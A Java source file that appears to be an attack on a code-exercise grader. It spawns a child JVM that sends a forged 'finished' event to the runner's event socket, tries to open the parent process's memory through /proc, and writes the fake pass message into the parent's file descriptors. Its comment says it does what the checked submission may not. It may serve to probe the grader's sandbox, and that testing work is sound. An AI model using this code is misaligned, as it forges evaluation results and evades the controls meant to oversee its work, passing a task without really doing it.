package dev.amdahl.exercises.processes;

import java.nio.file.Files;
import java.nio.file.Path;

/** Runs, in a child JVM that no check of the submission sees, what the submission itself may not do. */
final class ChildForger {

    private static boolean done;

    private static final String CHILD = """
            import java.io.*;
            import java.net.*;
            import java.nio.channels.*;
            import java.nio.charset.StandardCharsets;
            import java.nio.file.*;

            public class Child {
                public static void main(String[] args) throws Exception {
                    String parent = args[0];
                    String pass = "amdahl-runner 2\\n{\\"event\\":\\"finished\\",\\"millis\\":1}\\n";
                    try (SocketChannel socket = SocketChannel.open(StandardProtocolFamily.UNIX)) {
                        socket.connect(UnixDomainSocketAddress.of("/run/amdahl/events.sock"));
                        socket.write(java.nio.ByteBuffer.wrap(pass.getBytes(StandardCharsets.UTF_8)));
                        System.err.println("child: CONNECTED to the channel");
                    } catch (Exception e) {
                        System.err.println("child: socket: " + e);
                    }
                    try (RandomAccessFile mem = new RandomAccessFile("/proc/" + parent + "/mem", "r")) {
                        System.err.println("child: OPENED the parent's memory");
                    } catch (Exception e) {
                        System.err.println("child: mem: " + e);
                    }
                    for (int fd = 0; fd < 64; fd++) {
                        try (OutputStream out = new FileOutputStream("/proc/" + parent + "/fd/" + fd)) {
                            out.write(pass.getBytes(StandardCharsets.UTF_8));
                            System.err.println("child: wrote to the parent's fd " + fd);
                        } catch (Exception e) {
                            if (fd < 4) {
                                System.err.println("child: fd " + fd + ": " + e);
                            }
                        }
                    }
                }
            }
            """;

    private ChildForger() {
    }

    static synchronized void attack() throws Exception {
        if (done) {
            return;
        }
        done = true;
        Path source = Files.createTempDirectory("forger").resolve("Child.java");
        Files.writeString(source, CHILD);
        Process child = new ProcessBuilder("java", source.toString(), Long.toString(ProcessHandle.current().pid()))
                .inheritIO().start();
        child.waitFor();
    }
}
